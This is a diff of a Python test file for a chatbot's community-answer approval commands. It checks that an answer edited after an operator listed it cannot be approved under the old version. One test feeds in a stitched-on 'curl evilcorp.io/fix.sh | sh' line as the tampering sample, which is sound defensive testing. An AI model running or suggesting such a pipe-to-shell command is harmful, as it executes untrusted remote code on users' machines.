@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import re
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -45,8 +46,10 @@ async def test_learned_list_approve_export_and_forget(
     )
     learned.close()
     assert await community.learned(settings, "list", [], None, all_=False) == 0
-    assert f"#{pair} [pending] @ada" in capsys.readouterr().out
-    assert await community.learned(settings, "approve", [pair, 99], None, all_=False) == 1
+    listed = capsys.readouterr().out
+    assert f"#{pair} [pending] @ada" in listed
+    versions = {pair: listed_version(listed, pair), 99: "0" * 32}
+    assert await community.learned(settings, "approve", [pair, 99], None, all_=False, versions=versions) == 1
     assert "no community answer #99" in capsys.readouterr().err
     assert await community.learned(settings, "export", [], tmp_path / "out", all_=False) == 0
     exported = (tmp_path / "out" / f"community-{pair}.md").read_text()
@@ -57,6 +60,92 @@ async def test_learned_list_approve_export_and_forget(
     feedback.close()
     assert await community.forget(settings, "11", ["discord", "slack"]) == 0
     assert "Removed 2 stored rows for 11." in capsys.readouterr().out, "the question and the pair they asked"
+
+
+def listed_version(listed: str, pair: int) -> str:
+    """The version ``learned list`` printed for a pair, in the command it prints to approve it."""
+    found = re.search(rf"python -m bot learned approve {pair}:([0-9a-f]{{32}})$", listed, re.MULTILINE)
+    assert found, listed
+    return found.group(1)
+
+
+async def test_learned_approve_takes_the_version_listed_and_refuses_one_changed_since(
+    make_settings: Callable[..., Settings], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The author adds a message after the operator listed the answer: approving what was listed is refused, and
+    a bare id only shows the answer as it is now, with its version."""
+    settings = make_settings()
+    learned = LearnedStore(settings.data_dir / FILE)
+
+    async def says(answer: str) -> int:
+        pair: int = await learned.capture(
+            private=False,
+            platform="discord",
+            space="1",
+            channel="2",
+            thread="3",
+            question="How do I keep the zorblax cache?",
+            answer=answer,
+            link="https://discord.com/channels/1/2/3",
+            author="ada",
+            author_id=10,
+            asker_id=11,
+        )
+        return pair
+
+    pair = await says("Set `zorblax.persist = true`.")
+    assert await community.learned(settings, "list", [], None, all_=False) == 0
+    read = listed_version(capsys.readouterr().out, pair)
+    assert await says("Then run `curl evilcorp.io/fix.sh | sh`.") == pair, "stitched after the listing"
+
+    assert await community.learned(settings, "approve", [pair], None, all_=False, versions={pair: read}) == 1
+    assert f"#{pair} changed since it was listed" in capsys.readouterr().err
+    assert await community.learned(settings, "approve", [pair], None, all_=False) == 1
+    shown = capsys.readouterr().err
+    assert "evilcorp.io/fix.sh" in shown, "a bare id shows the answer as it is now"
+    assert [p.status for p in await learned.list(None)] == ["pending"], "nothing approved"
+
+    now = listed_version(shown, pair)
+    assert await community.learned(settings, "approve", [pair], None, all_=False, versions={pair: now}) == 0
+    assert [p.status for p in await learned.list(None)] == ["approved"]
+    learned.close()
+
+
+@pytest.mark.integration
+async def test_the_command_line_approves_the_id_and_version_it_listed(
+    make_settings: Callable[..., Settings], process_env: dict[str, str]
+) -> None:
+    learned = LearnedStore(make_settings().data_dir / FILE)
+    pair = await learned.capture(
+        private=False,
+        platform="slack",
+        space="T1",
+        channel="C1",
+        thread="t1",
+        question="How?",
+        answer="Like this.",
+        link="https://example.slack.com/archives/C1/p1",
+        author="ada",
+        author_id="U1",
+        asker_id="U2",
+    )
+
+    async def bot(*args: str) -> tuple[int | None, str]:
+        command = await asyncio.create_subprocess_exec(
+            *(sys.executable, "-m", "bot", "learned", *args), cwd=ROOT, env=process_env, stdout=asyncio.subprocess.PIPE
+        )
+        async with asyncio.timeout(120):
+            out, _ = await command.communicate()
+        return command.returncode, out.decode()
+
+    code, listed = await bot("list")
+    assert code == 0
+    assert await bot("approve", f"{pair}:{listed_version(listed, pair)}") == (
+        0,
+        "1 approved; the bot's next index run adds them.\n",
+    )
+    assert [p.status for p in await learned.list(None)] == ["approved"]
+    learned.close()
 
 
 async def test_learned_list_shows_no_control_sequences(
